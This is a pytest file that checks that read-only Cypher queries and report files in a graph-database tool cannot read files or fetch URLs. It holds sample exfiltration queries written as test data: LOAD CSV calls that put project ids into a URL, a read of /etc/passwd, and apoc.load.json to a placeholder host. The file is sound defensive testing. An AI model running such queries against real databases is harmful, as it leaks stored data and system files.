"""Read-only Cypher (reports, ``query`` without ``--write``) cannot make either engine read a
file or fetch a URL (issue 19, finding 11). A local listener shows whether the server tried."""

from __future__ import annotations

import json
import socket
import threading

import pytest

from portfolio_graph.graph.outbound import OutboundAccessRefused, outbound_reason
from support.cli import run


class Listener:
    """A TCP port on 127.0.0.1 that counts the connections made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener():
    listening = Listener()
    yield listening
    listening.close()


def fetching(port: int) -> str:
    # The reproduced leak: the ids go out in the URL (and, with a host name, in DNS and TLS SNI).
    return (f"MATCH (p:Project) LOAD CSV FROM 'https://127.0.0.1:{port}/' + toLower(p.id) + '.csv' AS row "
            "RETURN count(row) AS n")


def one_project(backend) -> None:
    backend.write("CREATE (:Project {id: 'P1', name: '项目一'})")


def test_load_csv_in_a_read_is_refused_before_it_reaches_the_engine(backend, listener):
    one_project(backend)
    with pytest.raises(OutboundAccessRefused, match="LOAD CSV"):
        backend.read(fetching(listener.port))
    assert listener.connections == 0


def test_a_report_file_with_load_csv_is_refused_and_sends_nothing(backend_location, listener, tmp_path):
    backend, location = backend_location
    one_project(backend)
    (tmp_path / "leak.cypher").write_text(
        "// name: leak\n// title: 泄露 / Leak\n// description: Sends ids out.\n// columns:\n//   n: {zh: 数, en: n}\n"
        + fetching(listener.port) + "\n", encoding="utf-8")
    result = run(["report", "run", "leak", "--reports-dir", str(tmp_path)], location)
    assert result.exit_code == 2, result.output
    assert "LOAD CSV" in result.output and "Traceback" not in result.output
    assert listener.connections == 0


def test_query_without_write_refuses_load_csv(backend_location, listener):
    backend, location = backend_location
    one_project(backend)
    result = run(["query", fetching(listener.port)], location)
    assert result.exit_code == 2, result.output
    assert "reports and queries without --write may not" in result.output
    assert listener.connections == 0


def test_ordinary_reads_that_mention_the_words_still_run(backend):
    one_project(backend)
    rows = backend.read("MATCH (p:Project) WHERE p.name <> 'LOAD CSV FROM x' "
                        "RETURN p.id AS `LOAD CSV` // LOAD CSV in a comment")
    assert rows == [{"LOAD CSV": "P1"}]


@pytest.mark.parametrize("cypher", [
    "LOAD/* split */CSV FROM 'file:///etc/passwd' AS row RETURN row",
    "load\ncsv with headers from $url as row return row",
    "CALL apoc.load.json('https://x.example') YIELD value RETURN value",
    "CALL `apoc.load.json`('https://x.example') YIELD value RETURN value",
    "RETURN apoc . util . md5(['x']) AS h",
    "CALL dbms.setConfigValue('a', 'b')",
])
def test_disguised_outbound_calls_are_recognised(cypher):
    assert outbound_reason(cypher) is not None


@pytest.mark.parametrize("cypher", [
    "CALL db.labels() YIELD label RETURN label",
    "CALL dbms.components() YIELD name RETURN name",
    "MATCH (apoc) RETURN apoc.name",
    "CALL { MATCH (n) RETURN n } RETURN n",
])
def test_graph_procedures_and_properties_are_not_refused(cypher):
    assert outbound_reason(cypher) is None


def test_the_embedded_server_confines_file_imports_to_an_empty_folder(_falkordb_backend, falkordb_path):
    from redis import Redis

    state = json.loads((falkordb_path / "server.json").read_text())
    client = Redis(unix_socket_path=state["socket"])
    try:
        folder = client.execute_command("GRAPH.CONFIG", "GET", "IMPORT_FOLDER")[1].decode()
    finally:
        client.close()
    assert folder.rstrip("/") == str(falkordb_path.resolve() / "import-disabled")
    assert not any((falkordb_path / "import-disabled").iterdir())
